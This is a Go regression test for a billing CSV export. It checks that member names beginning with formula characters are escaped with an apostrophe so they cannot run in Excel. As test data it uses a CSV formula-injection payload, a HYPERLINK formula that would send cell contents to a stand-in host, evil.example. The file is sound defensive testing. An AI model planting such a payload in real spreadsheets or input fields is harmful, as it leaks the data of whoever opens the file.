package billing_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/badgeuse/badgeuse/central"
)

// TestSalesCSVFormulaInjection: the accountant's export (centrald billing
// sales --csv: BOM and semicolons, for a double click in Excel) wrote
// names as they were typed. A member's name is typed by anyone on the
// join form, her portal's profile or her HelloAsso payment:
// "=HYPERLINK(...)" or "@SUM(...)" ran as a formula on the treasurer's
// machine. Such a cell starts with an apostrophe now, as the admin's
// exports do; amounts stay numbers.
func TestSalesCSVFormulaInjection(t *testing.T) {
	w := newWorld(t)
	evil := `=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")`
	if _, err := w.members.UpdateMember(w.ctx, w.alice, central.MemberUpdate{Name: &evil}); err != nil {
		t.Fatal(err)
	}
	s, err := w.ledger.CreateSale(w.ctx, central.NewSale{Member: w.alice, Product: w.card, Source: central.SourceCLI})
	if err != nil {
		t.Fatal(err)
	}
	w.clock.Add(time.Hour)
	if _, err := w.ledger.RefundSale(w.ctx, s.ID); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.books().WriteSalesCSV(w.ctx, &buf, time.Time{}, time.Time{}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("rows %q", rows)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if row[3] != "'"+evil {
			t.Errorf("name cell %q, want %q", row[3], "'"+evil)
		}
	}
	if refund := rows[2]; refund[6] != "-1" || !strings.HasPrefix(refund[7], "-") {
		t.Errorf("the refund's sign and amount are no longer numbers: %q", refund)
	}
}
